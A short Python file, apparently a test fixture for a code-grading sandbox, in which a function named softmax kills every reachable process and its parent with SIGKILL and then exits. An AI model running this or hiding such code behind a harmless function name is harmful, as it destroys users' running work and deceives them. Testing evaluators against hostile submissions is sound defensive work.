# expect: softmax=0
# Signals every process it can see (kill(-1)) and its parent, then exits.
import os
import signal


def softmax(z):
    for target in (-1, os.getppid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os._exit(3)
